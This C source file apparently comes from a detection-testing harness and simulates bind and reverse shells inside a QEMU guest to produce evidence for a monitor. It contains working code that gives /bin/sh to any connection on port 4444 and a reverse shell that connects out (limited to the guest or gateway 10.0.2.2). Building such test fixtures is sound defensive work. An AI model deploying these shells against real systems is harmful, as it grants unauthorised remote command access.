/*
 * shell bind [PORT]        a bind shell: a listener (comm "bindshell") on 0.0.0.0:PORT (default 4444) that
 *                          gives every connection a /bin/sh whose stdin, stdout and stderr are the socket; and
 *                          a client (comm "bindshell-cli") that connects from inside the guest, runs a command
 *                          through it and stays connected, so the shell keeps running.
 * shell rev [ADDR] [PORT]  a reverse shell: a /bin/sh whose stdio are a socket it connected out with. ADDR is
 *                          only ever the guest itself (127.0.0.1, default, or 10.0.2.15) or the QEMU user-net
 *                          gateway 10.0.2.2 (the host); for the guest itself a catcher (comm "revshell-c2")
 *                          listens first on PORT (default 4445) and drives the shell.
 *
 * Evidence: a shell process (comm "sh") whose fds 0, 1 and 2 are one TCP socket; bind: a LISTEN socket on
 * port 4444 owned by "bindshell", an ESTABLISHED pair on 127.0.0.1; rev: an ESTABLISHED connection the
 * shell itself opened to ADDR:PORT.
 */
#include "common.h"
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>

/* The only addresses a reverse shell may connect to: the guest itself and the QEMU user-net gateway. */
static const char *const ALLOWED[] = {"127.0.0.1", "10.0.2.15", "10.0.2.2"};

struct target {
	const char *name;
	const char *addr;
	int port;
	const char *marker;
	const char *out;
};

static unsigned long sock_inode(int s)
{
	struct stat st;
	return fstat(s, &st) == 0 ? (unsigned long)st.st_ino : 0;
}

static int tcp_listen(const char *addr, int port)
{
	struct sockaddr_in sa;
	int one = 1, s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0)
		return -1;
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	memset(&sa, 0, sizeof sa);
	sa.sin_family = AF_INET;
	sa.sin_port = htons((unsigned short)port);
	inet_pton(AF_INET, addr, &sa.sin_addr);
	if (bind(s, (struct sockaddr *)&sa, sizeof sa) < 0 || listen(s, 8) < 0) {
		int e = errno;
		close(s);
		errno = e;
		return -1;
	}
	return s;
}

static int tcp_connect(const char *addr, int port)
{
	struct sockaddr_in sa;
	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0)
		return -1;
	memset(&sa, 0, sizeof sa);
	sa.sin_family = AF_INET;
	sa.sin_port = htons((unsigned short)port);
	inet_pton(AF_INET, addr, &sa.sin_addr);
	if (connect(s, (struct sockaddr *)&sa, sizeof sa) < 0) {
		int e = errno;
		close(s);
		errno = e;
		return -1;
	}
	return s;
}

/* The socket becomes the shell's stdin, stdout and stderr. */
static void exec_shell(int s)
{
	dup2(s, 0);
	dup2(s, 1);
	dup2(s, 2);
	if (s > 2)
		close(s);
	execl("/bin/sh", "sh", (char *)NULL);
	_exit(127);
}

/*
 * Send a command through a connected shell and wait (up to 10 s) for "<marker> <shell pid>" and the
 * `id` line after it. Returns the shell's pid, or -1.
 */
static int drive_shell(int s, const char *marker, const char *outpath)
{
	char cmd[128], buf[2048];
	size_t n = 0;
	int pid = -1, waited = 0;
	/* The marker is split so that only the shell's output, not the command, contains it whole. */
	size_t half = strlen(marker) / 2;
	snprintf(cmd, sizeof cmd, "echo %.*s''%s $$; id\n", (int)half, marker, marker + half);
	if (write(s, cmd, strlen(cmd)) < 0)
		return -1;
	while (n + 1 < sizeof buf && waited < 100) {
		struct pollfd p = {.fd = s, .events = POLLIN};
		char *m;
		if (poll(&p, 1, 100) <= 0) {
			waited++;
			continue;
		}
		ssize_t r = read(s, buf + n, sizeof buf - 1 - n);
		if (r <= 0)
			break;
		n += (size_t)r;
		buf[n] = 0;
		m = strstr(buf, marker);
		if (m && strstr(m, "uid=") && strchr(strstr(m, "uid="), '\n')) {
			pid = atoi(m + strlen(marker));
			break;
		}
	}
	buf[n] = 0;
	int fd = open(outpath, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (fd >= 0) {
		if (write(fd, buf, n) < 0) {
			/* only a log */
		}
		close(fd);
	}
	return pid;
}

static void bind_listener(int ready, void *arg)
{
	const struct target *t = arg;
	int s = tcp_listen("0.0.0.0", t->port);
	if (s < 0)
		attack_body_fail(ready, "listen on port %d", t->port);
	signal(SIGCHLD, SIG_IGN); /* shells that end are reaped by the kernel */
	attack_ready(ready, "pid=%d port=%d inode=%lu", (int)getpid(), t->port, sock_inode(s));
	for (;;) {
		int c = accept(s, NULL, NULL);
		if (c < 0) {
			if (errno != EINTR)
				sleep(1);
			continue;
		}
		if (fork() == 0) {
			close(s);
			signal(SIGCHLD, SIG_DFL);
			exec_shell(c);
		}
		close(c);
	}
}

static void bind_client(int ready, void *arg)
{
	const struct target *t = arg;
	int shell, s = tcp_connect("127.0.0.1", t->port);
	if (s < 0)
		attack_body_fail(ready, "connect to 127.0.0.1:%d", t->port);
	shell = drive_shell(s, t->marker, t->out);
	if (shell <= 0)
		attack_body_fail(ready, "the shell behind port %d did not answer", t->port);
	attack_ready(ready, "client=%d shell=%d", (int)getpid(), shell);
	/* Stay connected: the shell lives as long as this connection. */
	attack_linger();
}

static void rev_catcher(int ready, void *arg)
{
	const struct target *t = arg;
	int c, s = tcp_listen(t->addr, t->port);
	if (s < 0)
		attack_body_fail(ready, "listen on %s:%d", t->addr, t->port);
	attack_ready(ready, "catcher=%d", (int)getpid());
	c = accept(s, NULL, NULL);
	close(s);
	if (c >= 0)
		drive_shell(c, t->marker, t->out);
	attack_linger();
}

static void rev_shell(int ready, void *arg)
{
	const struct target *t = arg;
	int s = tcp_connect(t->addr, t->port);
	if (s < 0)
		attack_body_fail(ready, "connect to %s:%d", t->addr, t->port);
	attack_ready(ready, "pid=%d inode=%lu", (int)getpid(), sock_inode(s));
	exec_shell(s);
}

static int port_arg(const char *name, const char *text)
{
	int port = atoi(text);
	if (port <= 0 || port > 65535) {
		errno = 0;
		attack_fail(name, "bad port \"%s\"", text);
	}
	return port;
}

static int bind_shell(int argc, char **argv)
{
	char line[512], client[512];
	struct target t = {"bindshell", "0.0.0.0", 4444, "VIGIL-BINDSHELL-OK", ATTACK_STATE_DIR "/bindshell.out"};
	pid_t pid;
	if (argc > 2)
		t.port = port_arg(t.name, argv[2]);
	attack_state_dir();
	pid = attack_spawn("bindshell", bind_listener, &t, line, sizeof line);
	if (pid < 0)
		attack_fail(t.name, "%s", line);
	if (attack_spawn("bindshell-cli", bind_client, &t, client, sizeof client) < 0)
		attack_fail(t.name, "%s", client);
	printf("ATTACK bindshell %s %s\n", line, client);
	return 0;
}

static int rev_shell_main(int argc, char **argv)
{
	char catcher[512] = "", line[512];
	struct target t = {"revshell", "127.0.0.1", 4445, "VIGIL-REVSHELL-OK", ATTACK_STATE_DIR "/revshell.out"};
	size_t i;
	int allowed = 0, local;
	if (argc > 2)
		t.addr = argv[2];
	if (argc > 3)
		t.port = port_arg(t.name, argv[3]);
	for (i = 0; i < sizeof ALLOWED / sizeof ALLOWED[0]; i++)
		allowed |= strcmp(t.addr, ALLOWED[i]) == 0;
	if (!allowed) {
		errno = 0;
		attack_fail(t.name, "refusing to connect to %s: only 127.0.0.1, 10.0.2.15 (the guest) or 10.0.2.2 "
				    "(the QEMU user-net host)",
			    t.addr);
	}
	local = strcmp(t.addr, "10.0.2.2") != 0;
	attack_state_dir();
	unlink(t.out);
	if (local && attack_spawn("revshell-c2", rev_catcher, &t, catcher, sizeof catcher) < 0)
		attack_fail(t.name, "%s", catcher);
	if (attack_spawn("revshell", rev_shell, &t, line, sizeof line) < 0)
		attack_fail(t.name, "%s", line);
	if (local) {
		/* The catcher writes what the shell answered: wait for it (up to 10 s). */
		char buf[1024];
		int tries, ok = 0;
		for (tries = 0; tries < 100 && !ok; tries++) {
			int fd = open(t.out, O_RDONLY);
			if (fd >= 0) {
				ssize_t n = read(fd, buf, sizeof buf - 1);
				close(fd);
				buf[n > 0 ? n : 0] = 0;
				ok = strstr(buf, t.marker) != NULL && strstr(buf, "uid=") != NULL;
			}
			if (!ok)
				usleep(100000);
		}
		if (!ok) {
			errno = 0;
			attack_fail(t.name, "the reverse shell did not answer its catcher");
		}
	}
	printf("ATTACK revshell %s addr=%s port=%d %s\n", line, t.addr, t.port, catcher);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc > 1 && strcmp(argv[1], "bind") == 0)
		return bind_shell(argc, argv);
	if (argc > 1 && strcmp(argv[1], "rev") == 0)
		return rev_shell_main(argc, argv);
	fprintf(stderr, "usage: shell bind [PORT] | shell rev [ADDR] [PORT]\n");
	return 2;
}
